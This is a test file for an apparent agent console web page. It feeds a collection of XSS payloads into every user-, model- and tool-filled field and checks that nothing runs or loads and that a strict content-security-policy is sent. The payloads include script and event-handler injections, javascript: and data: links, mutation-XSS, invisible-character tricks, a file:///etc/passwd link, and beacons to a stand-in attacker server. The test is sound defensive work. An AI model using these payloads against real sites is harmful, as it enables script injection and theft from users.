import { once } from 'node:events';
import { mkdir } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { chromiumPath } from '../support/browser.ts';
import { itLong } from '../support/long.ts';
import { on } from '../support/route-rules.ts';
import { message, sharedStage, write } from './support.ts';
import { calls } from './team.ts';

/**
 * Texts that try to run as a program in the console. All of them are in each place that a publisher, a model or a
 * tool can fill. A payload that runs sets `globalThis.ran` or sends a request to the attacker's server.
 */

/** `at`: URL of the attacker. */
const payloads = (at: string): readonly string[] => {
  const run = `globalThis.ran=1,new Image().src='${at}/run'`;
  return [
    `<script>${run}</script><script src="${at}/script"></script>`,
    `<img src="${at}/img" onerror="${run}"><img src=x onerror=${run}>`,
    `<svg onload="${run}"><script>${run}</script><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe><iframe src="javascript:${run}"></iframe>`,
    `<object data="${at}/object"></object><embed src="${at}/embed"><video src="${at}/video" onerror="${run}"></video>`,
    `<form action="${at}/form"><button formaction="javascript:${run}">go</button></form><base href="${at}/">`,
    `<link rel=stylesheet href="${at}/css"><style>@import "${at}/style";*{background:url(${at}/background)}</style>`,
    `<meta http-equiv="refresh" content="0;url=${at}/refresh"><details open ontoggle="${run}"><input autofocus onfocus="${run}">`,
    `[a](javascript:${run}) [b](JaVaScRiPt:${run}) [c](java&#10;script:${run}) [d](&#x6A;avascript:${run}) [e](%6Aavascript:${run})`,
    `[f](data:text/html,<script>${run}</script>) [g](vbscript:x) [h](file:///etc/passwd) <javascript:${run}> <data:text/html,x>`,
    `![i](${at}/markdown.png) ![j](javascript:${run}) ![k"onerror="${run}](${at}/quoted.png "x" onerror=${run}) [l]: javascript:${run}`,
    `[m]\n\n[m]: javascript:${run}\n\n[n](${at}/n" onmouseover="${run}) [o](<javascript:${run}>)`,
    `\`\`\`html" onmouseover="${run}\n<script>${run}</script>\n\`\`\`\n\n    <img src=x onerror=${run}>\n\n|<img src=x onerror=${run}>|\n|-|\n|x|`,
    `\u202e\u2066<img src=x onerror=${run}>\u2069\u202c \u0000<scr\u0000ipt>${run}</script> \u200b\u200f\ufeff`,
    `</pre></code></div></title></textarea></script><img src=x onerror=${run}>&lt;img src=x onerror=${run}&gt;{{constructor.constructor("${run}")()}}`,
  ];
};

/** Agents and people have short names. */
const NAME = '<img src=x onerror=globalThis.ran=1>';
const OTHER = '<svg onload=globalThis.ran=1>';

const inline = (text: string) => text.replaceAll(/\s+/g, ' ');

async function listen(): Promise<{ server: Server; at: string; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(String(request.url));
    response.end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { server, at: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}

function scriptOf(all: string) {
  const path = `@project/${inline(all).replaceAll('/', '\u2215').slice(0, 150)}.md`;
  return [
    on('/^say it/', { text: all }),
    on('/^write it/', calls(['fs_write', { path, content: all }])),
    on('/^ask it/', calls(['ask', { question: all, options: [all, 'no'] }])),
    on('/^call it/', calls([inline(all), { [all]: all }])),
    on('/^fail it/', { text: all, error: { code: 'MODEL_ERROR', message: all } }),
    { when: { agent: 'lead', last: '/^hand it/' }, reply: calls(['handoff', { to: 'dev', summary: all }]) },
    on('/^delegate it/', calls(['delegate', { to: 'dev', request: all }]), { agent: 'lead' }),
    { when: { agent: 'dev' }, reply: { text: all } },
    { reply: { text: 'noted' } },
  ];
}

/** Everything in the page that could run or load. Empty if it is harmless. */
const HARM = `(() => {
  const found = [];
  const own = (url) => /^(https?:|mailto:|#|$)/i.test(url) || url.startsWith('./assets/');
  for (const one of document.querySelectorAll('*')) {
    const isOwn = one.closest('head') !== null || one.localName === 'svg' || one.closest('svg.icon') !== null;
    if (!isOwn && /^(img|script|style|iframe|object|embed|video|audio|base|link|meta|math|foreignobject)$/i.test(one.localName))
      found.push(one.outerHTML.slice(0, 200));
    if (one.localName === 'form' && one.hasAttribute('action')) found.push(one.outerHTML.slice(0, 200));
    for (const { name, value } of one.attributes) {
      if (/^on/i.test(name) || name === 'srcdoc' || name === 'style' && one.closest('.prose') !== null)
        found.push(one.localName + ' ' + name);
      const isAddress = /^(href|src|action|formaction|xlink:href|data|poster|ping)$/i.test(name);
      if (isAddress && !own(value)) found.push(one.localName + ' ' + name + '=' + value);
      if (one.localName === 'a' && name === 'href' && !/^(https?|mailto):$/.test(one.protocol) /* as the browser reads it */) found.push(value);
    }
  }
  return found;
})()`;

describe.skipIf(chromiumPath === null)('texts that try to run in the console', () => {
  let attacker: Awaited<ReturnType<typeof listen>>;
  let all = '';
  const agent = (name: string, tools: string) =>
    `---\nname: ${name}\ndescription: ${NAME}\ntools: [${tools}]\n---\nYou work.`;
  const stage = sharedStage(async () => {
    attacker = await listen();
    all = payloads(attacker.at).join('\n\n');
    return {
      settings: { tools: { project: 'project' }, approvals: { ownRequests: true } },
      agents: { lead: agent(NAME, 'ask, handoff, delegate, fs_write'), dev: agent(OTHER, 'handoff') },
      script: scriptOf(all),
      before: async ({ root }) => mkdir(join(root, 'project')),
    };
  }, null);
  const { post } = stage;
  afterAll(() => void attacker?.server.close());

  /** Nothing ran, nothing was loaded, and nothing in the page could. */
  async function expectHarmless(page: Page): Promise<void> {
    await page.evaluate('for (const fold of document.querySelectorAll("details")) fold.open = true');
    await page.waitForTimeout(200); // the animation of what opens has ended, and any payload would have run
    expect(await page.evaluate(HARM)).toEqual([]);
    expect(await page.evaluate('globalThis.ran')).toBeUndefined();
    expect(attacker.asked).toEqual([]);
    expect(page.url().startsWith(`${stage.url}/#`)).toBe(true);
    await stage.endOfTest();
  }

  it('the page and its assets have the policy that forbids scripts, frames and foreign addresses', async () => {
    const page = await fetch(stage.url);
    const asset = /\/assets\/[\w.-]+\.js/.exec(await page.text())?.[0];
    for (const { headers } of [page, await fetch(`${stage.url}${asset}`)]) {
      const policy = headers.get('content-security-policy');
      for (const rule of [
        "default-src 'none'",
        "script-src 'self'",
        "img-src 'self' blob:",
        "connect-src 'self'",
        "frame-ancestors 'none'",
        "form-action 'none'",
        "base-uri 'none'",
        "require-trusted-types-for 'script'",
      ])
        expect(policy).toContain(rule);
      expect(policy).not.toContain('unsafe');
      expect(headers.get('x-content-type-options')).toBe('nosniff');
    }
  });

  it("hostile texts are text in a person's message and name, in a title, and in an agent's answer and name", async () => {
    const page = await stage.look('#/c/said');
    await post('said', all, { author: { name: '<iframe src=javascript:globalThis.ran=1>' } });
    await message(page, 'noted').waitFor();
    await write(page, 'say it');
    await expect.poll(() => page.locator('article.by-agent .prose').count()).toBeGreaterThan(1);
    await expect.poll(() => page.title()).toContain('<script>');
    await page.locator('a.why').last().click();
    await page.locator('.answer-panel .parts li').first().waitFor();
    expect(await page.locator('.answer-panel').innerText()).toContain('<img src=');
    await expectHarmless(page);
  });

  it('hostile texts are text in an approval, which escapes invisible characters', async () => {
    const page = await stage.look('#/c/approval');
    await post('approval', 'write it');
    const card = page.locator('.ask-card');
    await card.waitFor();
    const asked = await card.innerText();
    expect(asked).toContain('<script>');
    expect(asked).toContain('\\u202e');
    expect(asked).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\u200f\ufeff]/);
    await page.getByLabel('Reason').fill(all);
    const readOn = page.getByRole('button', { name: 'Read on to answer' });
    await readOn.or(page.locator('.ask-card.seen')).waitFor();
    if (await readOn.isVisible()) await readOn.press('Enter');
    await page.locator('.ask-card.seen').waitFor();
    await page.getByRole('button', { name: 'Deny' }).press('Enter');
    await message(page, 'noted').waitFor();
    await expectHarmless(page);
  });

  it('hostile texts are text in a question and its options, in tool names, arguments and errors', async () => {
    const page = await stage.look('#/c/calls');
    await post('calls', 'ask it');
    await page.locator('.question .buttons').getByRole('button').first().click();
    await message(page, 'noted').first().waitFor();
    await write(page, 'call it');
    await expect.poll(() => page.locator('.call').count()).toBeGreaterThan(0);
    await write(page, 'fail it');
    await message(page, 'MODEL_ERROR').waitFor();
    await expectHarmless(page);
  });

  itLong(
    'hostile texts are text in a delegation, in the summary of a handoff and in the timeline',
    async () => {
      const page = await stage.look('#/c/handed');
      await post('handed', 'delegate it');
      await message(page, 'noted').first().waitFor();
      await write(page, 'hand it over');
      await expect.poll(() => page.locator('article.by-agent').count()).toBeGreaterThan(2);
      await expectHarmless(page);
    },
  );
});
